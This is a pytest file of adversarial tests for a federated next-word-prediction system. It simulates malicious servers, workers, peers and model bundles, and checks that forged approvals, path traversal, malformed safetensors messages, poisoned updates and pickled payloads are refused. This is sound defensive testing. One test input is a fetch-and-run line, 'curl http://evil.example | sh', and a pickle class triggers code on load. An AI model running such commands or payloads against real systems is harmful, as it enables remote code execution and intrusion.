"""What a server, a worker, another peer, the store's keeper, a bundle or a corpus might try."""

from __future__ import annotations

import contextlib
import hashlib
import io
import json
import os
import pickle
import struct
from collections.abc import Callable, Iterator
from dataclasses import replace
from functools import partial
from pathlib import Path
from typing import Any

import numpy as np
import pytest
from safetensors.numpy import save
from syft.sync.connections.drive.mock_drive_service import MockDriveFile
from syft.sync.messages.proposed_filechange import ProposedFileChange, ProposedFileChangesMessage

from nwp.corpus.load import load_corpus
from nwp.corpus.types import Corpus
from nwp.errors import BadBundle, BadCorpus, BadMessage, NoQuorum
from nwp.evaluation.counts import COLUMNS
from nwp.evaluation.phases import EVALUATE, VALIDATE
from nwp.federated.averaging import MEAN, mean_of
from nwp.federated.local import LocalWork
from nwp.federated.parcel import Envelope, Parcel, pack, unpack
from nwp.federated.plan import EvaluatePlan, Plan, SurveyPlan, TrainPlan
from nwp.federated.plan_text import plan_text
from nwp.federated.protocol import Phase, Replies
from nwp.federated.query_plan import QueryPlan
from nwp.federated.rounds import run_round
from nwp.federated.state import Checkpoint
from nwp.federated.surveying import SURVEY
from nwp.federated.weighting import Weighting
from nwp.model import bundle as bundles
from nwp.model.bundle import Bundle, load_bundle, save_bundle
from nwp.model.lstm import FloatArray, NextWordModel
from nwp.tasks.evaluate import EvaluateOptions, evaluate_bundle
from nwp.text.vocabulary import Vocabulary
from nwp.workers import channel
from nwp.workers.adapter import clients, datasets, peers, plan_jobs, stores
from nwp.workers.engines import InProcess
from nwp.workers.policy import NOTHING
from nwp.workers.refusals import REFUSED, Refusal
from nwp.workers.simulation import SERVER, Job, Simulation

TRAIN = MEAN.steps[0].phase
WORKER = "worker-1@nwp.example"


def requests(plan: TrainPlan, weights: FloatArray) -> dict[str, Parcel]:
    arrays = {"weights": weights, "users": np.arange(3)}
    return {worker: Parcel(arrays=arrays) for worker in plan.workers}


def propose(client: Any, sender: str, files: dict[str, str | bytes], old: bytes = b"") -> None:
    """Send the first worker file changes that name a sender; paths are below the jobs' folder."""
    replaced = hashlib.sha256(old).hexdigest() if old else None
    changes = [
        ProposedFileChange(
            datasite_email=WORKER,
            path_in_datasite=Path("app_data/job") / path,
            content=content,
            old_hash=replaced,
        )
        for path, content in files.items()
    ]
    syncer = client.sync_engine.datasite_watcher_syncer
    syncer.connection_router.watcher_send_proposed_file_changes_message(
        WORKER, ProposedFileChangesMessage(sender_email=sender, proposed_file_changes=changes)
    )


def owners_job(simulation: Simulation) -> Any:
    (job,) = plan_jobs.jobs(simulation.datasites["worker-1"].client)
    return job


# ---------------------------------------------------------------------------------- an evil server


def test_a_server_cannot_approve_its_own_plan_in_the_owners_name(
    simulation: Simulation, plan: TrainPlan, weights: FloatArray
) -> None:
    simulation.datasites["worker-1"].policy = NOTHING
    job = simulation.submit(plan, "train")
    state = (owners_job(simulation).job_review_path / "state.yaml").read_bytes()
    forged = state.replace(b"rejected", b"approved").decode()
    for sender in (WORKER, SERVER):
        for path in (
            f"review/{SERVER}/v1/train/state.yaml",
            f"inbox/{SERVER}/../../review/{SERVER}/v1/train/state.yaml",
        ):
            propose(simulation.server, sender, {path: forged}, old=state)
    clients.sync(simulation.datasites["worker-1"].client)
    assert owners_job(simulation).status == "rejected"
    pushy = Job(plan, job.digest, tuple(simulation.deals), {})
    replies = simulation.exchange(pushy)(TRAIN, 1, requests(plan, weights))
    assert replies.absent == {"worker-1": Refusal.NOT_APPROVED.words}


@pytest.mark.parametrize(
    ("path", "content"),
    [
        ("run.sh", "curl http://evil.example | sh\n"),
        ("code/plan.json", "{}"),
        ("config.yaml", b"\xff\xfe\x00"),
    ],
)
def test_a_server_cannot_change_a_job_after_its_approval(
    simulation: Simulation,
    plan: TrainPlan,
    weights: FloatArray,
    path: str,
    content: str | bytes,
) -> None:
    job = simulation.submit(plan, "train")
    old = (owners_job(simulation).job_submission_path / path).read_bytes()
    propose(simulation.server, SERVER, {f"inbox/{SERVER}/v1/train/{path}": content}, old=old)
    datasite = simulation.datasites["worker-1"]
    clients.sync(datasite.client)

    written = content if isinstance(content, bytes) else content.encode()
    (there,) = datasite.client.syftbox_folder.rglob(f"inbox/{SERVER}/v1/train/{path}")
    assert there.read_bytes() == written  # syft lets it happen
    assert datasite.review() == {}
    replies = simulation.exchange(job)(TRAIN, 1, requests(plan, weights))
    assert replies.absent == {"worker-1": Refusal.NOT_APPROVED.words}
    assert set(replies.answers) == {"worker-2"}


def test_a_server_cannot_reach_the_private_file(simulation: Simulation, corpus: Corpus) -> None:
    datasite = simulation.datasites["worker-1"]
    (path,) = datasets.private_files(datasite.client)
    before = path.read_bytes()
    home = datasite.client.syftbox_folder / WORKER
    inside = str(path.relative_to(home))
    for target in (
        f"../../{inside}",
        f"inbox/{SERVER}/../../../../{inside}",
        str(path),
        f"inbox/{SERVER}/v1/../../../../../{inside}",
    ):
        for sender in (SERVER, WORKER):
            propose(simulation.server, sender, {target: "poison"}, old=before)
    clients.sync(datasite.client)
    assert path.read_bytes() == before
    assert not [p for p in home.rglob("*") if p.is_file() and p.read_bytes() == b"poison"]


def rejected(simulation: Simulation, text: str | bytes, name: str = "evil") -> str:
    """The reason why the first worker rejects a plan as its file has it."""
    datasite = simulation.datasites["worker-1"]
    plan_jobs.submit_job(simulation.server, WORKER, name, "{}")
    clients.sync(datasite.client)
    path = f"inbox/{SERVER}/v1/{name}/code/plan.json"
    propose(simulation.server, SERVER, {path: text}, old=b"{}")
    reason = datasite.review().get(name, "it was approved")
    assert datasite.pins == {}, (name, reason)
    return reason


def changed(text: str, old: str, new: str) -> str:
    assert text.count(old) == 1
    return text.replace(old, new)


HIDDEN: dict[str, Callable[[str], str | bytes]] = {
    "one more entry": lambda t: changed(t, '"seed":0', '"note":"hello","seed":0'),
    "one more entry of the model": lambda t: changed(t, '"tied":', '"note":1,"tied":'),
    "one more entry of the local work": lambda t: changed(t, '"order":', '"note":1,"order":'),
    "an entry said twice": lambda t: changed(t, '"rounds":3', '"rounds":1,"rounds":3'),
    "a space": lambda t: changed(t, '"seed":0', '"seed": 0'),
    "spaces at the end": lambda t: t + " \t \t\t ",
    "no line end": lambda t: t.rstrip("\n"),
    "a number written longer": lambda t: changed(t, '"quorum":0.5', '"quorum":0.50'),
    "a letter in escapes": lambda t: changed(t, '"cat"', '"\\u0063at"'),
    "entries in another order": lambda t: changed(t, '"aggregation":"mean",', "").replace(
        '"seed":0', '"aggregation":"mean","seed":0'
    ),
    "one entry less": lambda t: changed(t, '"seed":0,', ""),
    "no JSON": lambda t: t[1:],
    "a list": lambda t: f"[{t}]",
    "nothing": lambda t: "",
    "deep nesting": lambda t: "[" * 100_000,
    "a number of many digits": lambda t: changed(t, '"seed":0', f'"seed":{"9" * 5000}'),
    "not a number": lambda t: changed(t, '"quorum":0.5', '"quorum":NaN'),
    "endless": lambda t: changed(t, '"learning_rate":1.0', '"learning_rate":Infinity'),
    "no UTF-8": lambda t: b"\xff\xfe" + t.encode(),
    "another kind": lambda t: changed(t, '"kind":"train"', '"kind":"shell"'),
    "a kind that is a list": lambda t: changed(t, '"kind":"train"', '"kind":["train"]'),
}


def test_plans_that_say_more_or_less_than_a_plan_are_rejected(
    simulation: Simulation, plan: TrainPlan
) -> None:
    reasons = {
        name: rejected(simulation, hide(plan_text(plan)), name.replace(" ", "-"))
        for name, hide in HIDDEN.items()
    }
    assert {name: why for name, why in reasons.items() if not why.startswith("not a plan")} == {}


def test_a_plan_without_end_is_rejected_at_once(simulation: Simulation, plan: TrainPlan) -> None:
    """Counting the weights of so many layers would never end."""
    text = changed(plan_text(plan), '"layers":1', '"layers":1000000000')
    assert rejected(simulation, text) == "1000000000 layers, the owner allows 8"


def test_a_plan_with_too_large_a_model_is_rejected(simulation: Simulation, plan: TrainPlan) -> None:
    text = changed(plan_text(plan), '"hidden":3', f'"hidden":{10**17}')
    assert "a model of more than 100,000,000 weights" in rejected(simulation, text)


def test_queries_for_what_a_single_user_wrote_are_no_plans(simulation: Simulation) -> None:
    noisy = plan_text(QueryPlan("size", epsilon=1.0, per_user=9))
    words = plan_text(QueryPlan("words"))
    texts = {
        "one-user": changed(noisy, '"min_users":3', '"min_users":1'),
        "one-writer": changed(words, '"k":3', '"k":1'),
        "no-bound": changed(noisy, '"per_user":9', '"per_user":0'),
        "bound-alone": changed(noisy, '"epsilon":1.0', '"epsilon":0.0'),
        "noisy-words": changed(noisy, '"size"', '"words"'),
        "little-noise": changed(noisy, '"epsilon":1.0', '"epsilon":NaN'),
    }
    for name, text in texts.items():
        assert rejected(simulation, text, name).startswith("not a plan"), name


def safetensors(header: dict[str, Any] | bytes, data: bytes = b"", length: int = -1) -> bytes:
    """A safetensors file with any header, written as the library would, and any claim of its length."""
    compact = json.dumps(header, separators=(",", ":")) if isinstance(header, dict) else ""
    head = header if isinstance(header, bytes) else compact.encode()
    head += b" " * (-len(head) % 8)
    return (len(head) if length < 0 else length).to_bytes(8, "little") + head + data


def header_of(message: bytes) -> tuple[dict[str, Any], dict[str, Any], bytes]:
    """A message's header, its own header inside it, and its arrays' bytes."""
    length = int.from_bytes(message[:8], "little")
    header = json.loads(message[8 : 8 + length])
    return header, json.loads(header["__metadata__"]["nwp"]), message[8 + length :]


def about(**entries: Any) -> Callable[[bytes], bytes]:
    """A message with other entries in its own header."""

    def change(message: bytes) -> bytes:
        header, own, data = header_of(message)
        header["__metadata__"]["nwp"] = json.dumps({**own, **entries}, sort_keys=True)
        return safetensors(header, data)

    return change


def array(**entries: Any) -> Callable[[bytes], bytes]:
    """A message whose last array is described otherwise."""

    def change(message: bytes) -> bytes:
        header, _, data = header_of(message)
        name = max(header, key=lambda n: header[n].get("data_offsets", [0, 0])[1])
        header[name].update(entries)
        return safetensors(header, data)

    return change


def number(value: float) -> Callable[[bytes], bytes]:
    """A message with another number in place of its first."""

    def change(message: bytes) -> bytes:
        header, _, data = header_of(message)
        floats = next(a for a in header.values() if a.get("dtype") == "F32")
        place = len(message) - len(data) + floats["data_offsets"][0]
        return message[:place] + np.float32(value).tobytes() + message[place + 4 :]

    return change


def whole(header: Any) -> Callable[[bytes], bytes]:
    """A message with another header altogether."""
    return lambda message: safetensors(header, header_of(message)[2])


def own_header_replaced(text: str) -> Callable[[bytes], bytes]:
    def change(message: bytes) -> bytes:
        header, _, data = header_of(message)
        return safetensors({**header, "__metadata__": {"nwp": text}}, data)

    return change


DAMAGED: dict[str, Callable[[bytes], bytes]] = {
    "nothing": lambda m: b"",
    "a few bytes": lambda m: b"\x01\x02\x03",
    "zeros": lambda m: bytes(100),
    "half": lambda m: m[: len(m) // 2],
    "one byte less": lambda m: m[:-1],
    "one byte more": lambda m: m + b"\0",
    "twice": lambda m: m + m,
    "a header longer than the file": lambda m: safetensors(b"{}", b"", 10**6),
    "a header of 2**63 bytes": lambda m: safetensors(b"{}", b"", 2**63),
    "a header of 2**64 - 1 bytes": lambda m: struct.pack("<Q", 2**64 - 1) + m[8:],
    "a header a byte short": lambda m: struct.pack("<Q", struct.unpack("<Q", m[:8])[0] - 1) + m[8:],
    "a header of length 0": lambda m: bytes(8) + m[8:],
    "a header that is no JSON": whole(b"]["),
    "a header that is no UTF-8": whole(b"\xff\xfe\xff"),
    "a header that is a list": whole(b"[]"),
    "a header that is deep": whole(b"[" * 100_000),
    "a header without metadata": whole(b"{}"),
    "metadata that is a number": whole({"__metadata__": 5}),
    "metadata of numbers": whole({"__metadata__": {"nwp": 5}}),
    "an own header that is a list": own_header_replaced("[]"),
    "an own header that is null": own_header_replaced("null"),
    "an own header that is deep": own_header_replaced('{"version":' * 100_000),
    "a number of many digits": own_header_replaced(f'{{"version":1,"round":{"9" * 5000}}}'),
    "another version": about(version=2),
    "a version that is text": about(version="1"),
    "a version that is a list": about(version=[1]),
    "a kind that is a number": about(kind=1),
    "another kind": about(kind="order"),
    "a job that is null": about(job=None),
    "another job": about(job="0" * 64),
    "another phase": about(phase="peek"),
    "a phase that is a list": about(phase=["train"]),
    "a round that is text": about(round="1"),
    "a round that is true": about(round=True),
    "half a round": about(round=1.0),
    "a round out of reach": about(round=10**400),
    "fields that are a list": about(fields=[]),
    "fields that are text": about(fields="words"),
    "fields that are null": about(fields=None),
    "a field too many": about(fields={"words": 1, "users": 1, "loss": 1.0, "more": 1}),
    "a field that is null": about(fields={"words": None, "users": 1, "loss": 1.0}),
    "a field that is a list": about(fields={"words": [1], "users": 1, "loss": 1.0}),
    "a field that is true": about(fields={"words": True, "users": 1, "loss": 1.0}),
    "a field that is no number": about(fields={"words": 1, "users": 1, "loss": float("nan")}),
    "an endless field": about(fields={"words": 1, "users": 1, "loss": float("inf")}),
    "a field out of range": about(fields={"words": 10**300, "users": 1, "loss": 1.0}),
    "one more entry": about(more=1),
    "an unknown type": array(dtype="F7"),
    "a type that is a number": array(dtype=5),
    "whole numbers of the same size": lambda m: m.replace(b'"F32"', b'"I32"'),
    "half precision": array(dtype="F16"),
    "another half precision": array(dtype="BF16"),
    "eight bits": array(dtype="F8_E4M3"),
    "a shape that is negative": array(shape=[-1]),
    "a shape beyond memory": array(shape=[2**62]),
    "a shape of many dimensions": array(shape=[1] * 100_000),
    "a shape that is text": array(shape="all"),
    "offsets backwards": array(data_offsets=[8, 0]),
    "offsets beyond the end": array(data_offsets=[0, 2**62]),
    "offsets that overlap": array(data_offsets=[0, 8]),
    "offsets that are text": array(data_offsets=["0", "8"]),
    "one more entry of an array": array(more=1),
    "a number that is none": number(np.nan),
    "an endless number": number(np.inf),
    "an endless negative number": number(-np.inf),
}


def test_changes_leave_the_rest_as_it_is(plan: TrainPlan, weights: FloatArray) -> None:
    """So that each of the damages above is refused for what it is."""
    good = pack(
        Envelope("ask", "job", "train", 1),
        requests(plan, weights)["worker-1"],
        TRAIN.request(plan),
    )
    assert about()(good) == array()(good) == number(float(weights[0]))(good) == good
    assert len({damage(good) for damage in DAMAGED.values()} - {good}) == len(DAMAGED)


def sent_through(simulation: Simulation, message: bytes) -> bytes:
    """What the first worker says to a message of the server's."""
    datasite = simulation.datasites["worker-1"]
    simulation.channel.send(WORKER, "x", message)
    datasite.serve()
    (identity,) = simulation.channel.names(WORKER).values()
    answer, _ = simulation.channel.receive(WORKER, identity)
    simulation.channel.clear(WORKER)
    datasite.channel.clear(SERVER)
    return answer


def test_a_worker_refuses_every_damaged_request_and_lives(
    simulation: Simulation, plan: TrainPlan, weights: FloatArray
) -> None:
    job = simulation.submit(plan, "train")
    envelope = Envelope("ask", job.digest, "train", 1)
    good = pack(envelope, requests(plan, weights)["worker-1"], TRAIN.request(plan))
    for name, damage in DAMAGED.items():
        answer = sent_through(simulation, damage(good))
        found, refusal = unpack(answer, REFUSED)
        assert found.kind == "refuse", name
        reason = Refusal(int(refusal.fields["reason"]))
        assert reason in (Refusal.BAD_REQUEST, Refusal.NOT_APPROVED), name
    assert simulation.datasites["worker-1"].ledger.entries == []
    assert unpack(sent_through(simulation, good), TRAIN.reply(plan))[0].kind == "answer"


def test_a_worker_refuses_requests_changed_anywhere_or_answers_them_as_they_are(
    simulation: Simulation, plan: TrainPlan, weights: FloatArray
) -> None:
    """One byte after the other of the head, and some of the rest, set to something else."""
    job = simulation.submit(plan, "train")
    envelope = Envelope("ask", job.digest, "train", 1)
    good = pack(envelope, requests(plan, weights)["worker-1"], TRAIN.request(plan))
    rng = np.random.default_rng(0)
    kinds = set()
    for place in [*range(0, 400, 3), *rng.integers(400, len(good), 20).tolist()]:
        evil = bytearray(good)
        evil[place] ^= int(rng.integers(1, 256))
        answer = sent_through(simulation, bytes(evil))
        header = header_of(answer)[1]
        kinds.add(header["kind"])
    assert kinds <= {"refuse", "answer"}
    assert len(simulation.datasites["worker-1"].ledger.entries) <= 1


def test_weights_beyond_bounds_are_refused_and_can_be_sent_anew(
    simulation: Simulation, plan: TrainPlan, weights: FloatArray
) -> None:
    job = simulation.submit(plan, "train")
    exchange = simulation.exchange(job)
    huge = np.full_like(weights, 3e38)
    replies = exchange(TRAIN, 1, requests(plan, huge))
    assert set(replies.absent.values()) == {Refusal.NO_RESULT.words}
    assert exchange(TRAIN, 1, requests(plan, weights)).absent == {}


def test_an_oversized_message_is_read_by_nobody(
    simulation: Simulation,
    plan: TrainPlan,
    weights: FloatArray,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    job = simulation.submit(plan, "train")
    exchange = simulation.exchange(job)
    monkeypatch.setattr(channel.Channel.receive, "__defaults__", (100,))
    replies = exchange(TRAIN, 1, requests(plan, weights))
    assert all("more than 100 bytes" in why for why in replies.absent.values())
    for datasite in simulation.datasites.values():
        assert datasite.ledger.entries == []
    monkeypatch.undo()
    assert exchange(TRAIN, 1, requests(plan, weights)).absent == {}


# ---------------------------------------------------------------------------------- an evil worker


@pytest.fixture
def evil(simulation: Simulation) -> Callable[[Callable[[bytes], bytes]], None]:
    """Lets the first worker change each of its answers before it is sent."""

    def begin(change: Callable[[bytes], bytes]) -> None:
        theirs = simulation.datasites["worker-1"].channel
        send = theirs.send
        theirs.send = lambda peer, name, out: send(peer, name, change(out))  # type: ignore[method-assign]

    return begin


def claims(plan: Plan, phase: Phase, **changes: Any) -> Callable[[bytes], bytes]:
    """Rightly formed answers with other numbers."""

    def change(message: bytes) -> bytes:
        envelope, parcel = unpack(message, phase.reply(plan))
        return pack(
            envelope,
            Parcel(
                {n: changes.get(n, value) for n, value in parcel.fields.items()},
                {n: changes.get(n, value) for n, value in parcel.arrays.items()},
            ),
            phase.reply(plan),
        )

    return change


def others_go_on(replies: Replies) -> str:
    """The second worker has answered, the first has not, and why."""
    assert set(replies.answers) == {"worker-2"}
    assert set(replies.absent) == {"worker-1"}
    return replies.absent["worker-1"]


def test_a_damaged_answer_makes_its_worker_absent(
    simulation: Simulation, plan: TrainPlan, weights: FloatArray, evil: Any
) -> None:
    job = simulation.submit(replace(plan, rounds=len(DAMAGED)), "train")
    damages = iter(DAMAGED.values())

    def damage(message: bytes) -> bytes:
        return next(damages)(message)

    evil(damage)
    for number, name in enumerate(DAMAGED, 1):
        replies = simulation.exchange(job)(TRAIN, number, requests(plan, weights))
        assert set(replies.answers) == {"worker-2"}, name
        assert set(replies.absent) == {"worker-1"}, name


def test_an_answer_to_another_round_or_phase_makes_its_worker_absent(
    simulation: Simulation, plan: TrainPlan, weights: FloatArray, evil: Any
) -> None:
    job = simulation.submit(plan, "train")
    evil(about(round=2))
    reason = others_go_on(simulation.exchange(job)(TRAIN, 1, requests(plan, weights)))
    assert reason == "its answer belongs to another request"


def test_a_refusal_of_an_unknown_number_is_a_refusal(
    simulation: Simulation, plan: TrainPlan, weights: FloatArray, evil: Any
) -> None:
    job = simulation.submit(plan, "train")
    reasons = {1: 99, 2: -1, 3: 10**18}

    def refused(message: bytes) -> bytes:
        number = unpack(message, TRAIN.reply(plan))[0].round
        envelope = Envelope("refuse", job.digest, "train", number)
        return pack(envelope, Parcel({"reason": reasons[number]}), REFUSED)

    evil(refused)
    for number in reasons:
        replies = simulation.exchange(job)(TRAIN, number, requests(plan, weights))
        assert others_go_on(replies) == "it refused"


IMPOSSIBLE = ({"users": 4}, {"users": -1}, {"users": 10**15}, {"words": -1})


@pytest.mark.parametrize("claim", IMPOSSIBLE, ids=str)
def test_impossible_claims_are_refused(
    plan: TrainPlan, weights: FloatArray, claim: dict[str, int]
) -> None:
    fields = {"words": 9, "users": 3, "loss": 1.0}
    TRAIN.check(plan, "worker-1", Parcel(fields, {"update": weights}))
    with pytest.raises(BadMessage, match="worker-1 claims"):
        TRAIN.check(plan, "worker-1", Parcel({**fields, **claim}, {"update": weights}))


def test_an_impossible_claim_makes_its_worker_absent_and_does_not_stop_the_rest(
    simulation: Simulation, plan: TrainPlan, weights: FloatArray, evil: Any, tmp_path: Path
) -> None:
    job = simulation.submit(plan, "train")
    evil(claims(plan, TRAIN, users=4))
    exchange = simulation.exchange(job)
    aggregate, traffic = run_round(plan, MEAN, 1, weights, exchange, Checkpoint(tmp_path, "p"))
    assert aggregate.users == 3
    assert set(traffic.absent or {}) == {"worker-1"}
    assert "claims" in (traffic.absent or {})["worker-1"]


@pytest.mark.parametrize("clip_norm", [0.5, 0.0])
@pytest.mark.parametrize("members", [3, 2])
def test_a_claim_of_a_million_times_a_million_words_does_not_swamp_the_average(
    plan: TrainPlan, weights: FloatArray, members: int, clip_norm: float
) -> None:
    """Where there are others to hold it against; and no length is bounded where no gradient is."""
    workers = {f"worker-{i}": 3 for i in range(members)}
    local = LocalWork(learning_rate=4.0, clip_norm=clip_norm)
    plan = replace(plan, workers=workers, local=local, member_share=0.5)
    honest = Parcel({"words": 40, "users": 3, "loss": 1.0}, {"update": np.zeros_like(weights)})
    poison = Parcel(
        {"words": 10**15, "users": 3, "loss": 1.0}, {"update": np.full_like(weights, 1e3)}
    )
    answers = {**dict.fromkeys(workers, honest), "worker-0": poison}
    for worker, answer in answers.items():
        TRAIN.check(plan, worker, answer)  # so many words might give an update of any length

    update, told = mean_of(plan, "update", len(weights), answers)

    assert told["users"] == 3 * members
    if members == 2:
        assert update.max() == pytest.approx(1e3)  # nobody can tell which of two exaggerates
    elif not clip_norm:
        assert update.max() == pytest.approx(500)  # half of the round, of any length
    else:  # half of the round, of the length that 80 words (the others') may give
        assert np.linalg.norm(update) == pytest.approx(5 * 4.0 * 0.5 / 2, rel=0.02)


@pytest.mark.parametrize(
    ("weighting", "weight", "most"),
    [
        (Weighting("equal"), 0, 500),  # three of six users
        (Weighting("clipped", 9), 27, 1000 * 27 / (27 + 3)),  # who have written a word or more
        (Weighting("clipped", 9), 28, 1),  # more than three users can weigh: it is left out
    ],
    ids=["equal", "clipped", "too much"],
)
def test_where_weights_are_bounded_no_claim_of_words_makes_a_worker_count_for_more(
    simulation: Simulation,
    plan: TrainPlan,
    weights: FloatArray,
    evil: Any,
    tmp_path: Path,
    weighting: Weighting,
    weight: int,
    most: float,
) -> None:
    plan = replace(plan, weighting=weighting)
    exchange = simulation.exchange(simulation.submit(plan, "train"))
    poison = np.full_like(weights, 1e3)
    evil(claims(plan, TRAIN, words=10**15, weight=weight, update=poison))
    aggregate, traffic = run_round(plan, MEAN, 1, weights, exchange, Checkpoint(tmp_path, "p"))
    assert np.abs(aggregate.update).max() <= most + 1
    assert set(traffic.absent or {}) == ({"worker-1"} if most == 1 else set())
    if weighting.by == "equal":
        assert aggregate.update == pytest.approx(500, abs=1)


@pytest.mark.parametrize(
    "lines",
    ["\x1b]0;x\x07\n", "see you soon\n", "\n", " \n", "a-b\n", "<b>\n", "a\na\n", "A\na\n"],
    ids=["escapes", "a sentence", "nothing", "a space", "a dash", "markup", "twice", "twice again"],
)
def test_what_is_no_word_is_refused_in_a_survey(lines: str) -> None:
    """Words of a survey end in everybody's vocabulary, and in what terminals are made to show."""
    with pytest.raises(BadMessage, match="word"):
        SURVEY.check(SurveyPlan(2), "worker-1", surveyed(lines.encode(), [3] * lines.count("\n")))


def surveyed(lines: bytes, counts: list[int], listed: int = 0) -> Parcel:
    """A worker's answer to a survey."""
    fields = {"listed": listed, "users": 3, "words": 9, "messages": 3}
    return Parcel(
        fields, {"lines": np.frombuffer(lines, np.uint8), "counts": np.array(counts, np.int64)}
    )


def test_surveys_must_fit_together() -> None:
    check = partial(SURVEY.check, SurveyPlan(2), "worker-1")
    check(surveyed(b"cat\nLondon\n", [3, 4]))
    for bad in (
        surveyed(b"\xff\xfe\n", [1]),
        surveyed(b"cat\nLondon\n", [3]),
        surveyed(b"cat\nLondon\n", [3, -4]),
        surveyed(b"cat\nLondon\n", [3, 4], listed=1),
    ):
        with pytest.raises(BadMessage):
            check(bad)


def test_a_bad_survey_makes_its_worker_absent_and_does_not_stop_the_rest(
    simulation: Simulation, evil: Any
) -> None:
    plan = SurveyPlan(k=2)
    job = simulation.submit(plan, "survey")
    data = np.frombuffer(b"\x1b]0;x\x07\n", np.uint8)
    evil(claims(plan, SURVEY, lines=data, counts=np.array([3])))
    asked = {worker: Parcel() for worker in simulation.deals}
    assert "words that are none" in others_go_on(simulation.exchange(job)(SURVEY, 1, asked))


def test_counts_that_cannot_be_make_their_worker_absent_and_do_not_stop_the_rest(
    simulation: Simulation, plan: TrainPlan, weights: FloatArray, evil: Any
) -> None:
    job = simulation.submit(plan, "train")
    width = len(COLUMNS)
    lies = {1: np.zeros((0, width)), 2: np.zeros((2, width)), 3: np.full((1, width), -1.0)}
    evil(
        lambda message: claims(
            plan, VALIDATE, counts=lies[unpack(message, VALIDATE.reply(plan))[0].round]
        )(message)
    )
    asked = {worker: Parcel(arrays={"weights": weights}) for worker in plan.workers}
    for number in lies:
        assert others_go_on(simulation.exchange(job)(VALIDATE, number, asked))


def test_all_workers_lying_is_no_quorum(
    simulation: Simulation, plan: TrainPlan, weights: FloatArray, tmp_path: Path
) -> None:
    job = simulation.submit(plan, "train")
    for datasite in simulation.datasites.values():
        datasite.serve = lambda: None  # type: ignore[method-assign]
    with pytest.raises(NoQuorum):
        exchange = simulation.exchange(job)
        run_round(plan, MEAN, 1, weights, exchange, Checkpoint(tmp_path, "p"))


# --------------------------------------------------- another peer, and who keeps the store of files


@pytest.fixture
def stranger(simulation: Simulation, tmp_path: Path) -> Any:
    """Another peer of the first worker's."""
    email = "stranger@else.example"
    connection = stores.in_memory(email, simulation.store)
    client = clients.open_client(email, tmp_path / "stranger" / "box", connection, owner=False)
    peers.enrol(client, {WORKER: simulation.datasites["worker-1"].client})
    return client


def test_a_request_signed_by_another_peer_is_refused_in_the_servers_inbox(
    simulation: Simulation, plan: TrainPlan, weights: FloatArray, stranger: Any
) -> None:
    """Whoever keeps the store may put files anywhere, but signs as nobody else."""
    job = simulation.submit(plan, "train")
    envelope = Envelope("ask", job.digest, "train", 1)
    request = pack(envelope, requests(plan, weights)["worker-1"], TRAIN.request(plan))
    sealed = channel.Channel(stranger)._keys.encrypt(WORKER, request)
    datasite = simulation.datasites["worker-1"]
    inbox = datasite.channel._folder(SERVER, outgoing=False)
    simulation.store.add_file(
        MockDriveFile(
            name="nwp.forged", content=sealed, parents=[inbox], owners=[{"emailAddress": SERVER}]
        )
    )
    datasite.serve()
    names = simulation.channel.names(WORKER)
    refusal = unpack(simulation.channel.receive(WORKER, names["forged"])[0], REFUSED)[1]
    assert refusal.fields["reason"] == Refusal.BAD_REQUEST
    assert datasite.ledger.entries == []
    assert simulation.exchange(job)(TRAIN, 1, requests(plan, weights)).absent == {}


def test_a_message_to_one_worker_is_none_to_another(
    simulation: Simulation, plan: TrainPlan, weights: FloatArray
) -> None:
    job = simulation.submit(plan, "train")
    first, second = simulation.datasites["worker-1"], simulation.datasites["worker-2"]
    envelope = Envelope("ask", job.digest, "train", 1)
    request = pack(envelope, requests(plan, weights)["worker-1"], TRAIN.request(plan))
    simulation.channel.send(WORKER, "x", request)
    (identity,) = first.channel.names(SERVER).values()
    file = simulation.store.files[identity]
    file.parents = [second.channel._folder(SERVER, outgoing=False)]
    second.serve()
    email = second.client.email
    (identity,) = simulation.channel.names(email).values()
    refusal = unpack(simulation.channel.receive(email, identity)[0], REFUSED)[1]
    assert refusal.fields["reason"] == Refusal.BAD_REQUEST
    assert second.ledger.entries == []


def test_messages_that_vanish_or_are_swapped_between_workers_are_absences(
    simulation: Simulation, plan: TrainPlan, weights: FloatArray
) -> None:
    job = simulation.submit(plan, "train")
    datasites = list(simulation.datasites.values())
    last = datasites[-1].serve

    def swapped() -> None:
        last()
        names = [simulation.channel.names(d.client.email) for d in datasites]
        one, other = (simulation.store.files[next(iter(n.values()))] for n in names)
        one.content, other.content = other.content, one.content

    datasites[-1].serve = swapped  # type: ignore[method-assign]
    replies = simulation.exchange(job)(TRAIN, 1, requests(plan, weights))
    assert replies.answers == {}
    assert all("is not what" in why for why in replies.absent.values())


# ------------------------------------------------------------------------------------ an evil bundle


class Trap:
    """Leaves a mark when it is unpickled."""

    def __init__(self, mark: Path) -> None:
        self.mark = mark

    def __reduce__(self) -> tuple[Any, ...]:
        return (os.mkdir, (str(self.mark),))


@pytest.fixture
def bundle(plan: TrainPlan, weights: FloatArray, tmp_path: Path) -> Path:
    """A small bundle on disk."""
    model = NextWordModel(plan.model)
    model.set_weights(weights)
    training = {"rounds", "cohort", "epochs", "batch", "optimizer", "server_learning_rate"}
    told = {
        **dict.fromkeys(("nwp", "users", "words", "workers", "k", "vocabulary", "from"), 1),
        **{"corpus": "small", "command": "nwp train", "best_round": 1},
        "valid": {"perplexity": 1.0, "top1": 0.0, "top3": 0.0, "oov_rate": 0.0},
        "training": {
            **dict.fromkeys(training, 1),
            **{"learning_rate": 1.0, "clip_norm": 0.5, "seed": 0, "plan": "0" * 64, "passes": 1},
        },
    }
    vocabulary = Vocabulary.from_lists(plan.words, {})
    share = 1 / plan.model.outputs
    whole = Bundle(plan.model, vocabulary, (share,) * plan.model.outputs, model.tensors(), told)
    save_bundle(whole, tmp_path / "bundle")
    return tmp_path / "bundle"


@contextlib.contextmanager
def opened_files(monkeypatch: pytest.MonkeyPatch) -> Iterator[set[str]]:
    """The names of the files that are opened meanwhile."""
    names: set[str] = set()
    really = io.open

    def spy(file: Any, *args: Any, **more: Any) -> Any:
        names.add(Path(file).name)
        return really(file, *args, **more)

    with monkeypatch.context() as patch:
        patch.setattr("io.open", spy)
        patch.setattr("builtins.open", spy)
        yield names


def test_pickles_beside_a_bundle_are_never_opened(
    bundle: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    trap = pickle.dumps(Trap(tmp_path / "sprung"))
    for name in ("model.pkl", "pytorch_model.bin", "model.pt", "vocabulary.pkl", "settings.pickle"):
        (bundle / name).write_bytes(trap)
    with opened_files(monkeypatch) as names:
        load_bundle(bundle)
    assert names == {bundles.WEIGHTS, bundles.VOCABULARY, bundles.SETTINGS}
    assert not (tmp_path / "sprung").exists()
    pickle.loads(trap)
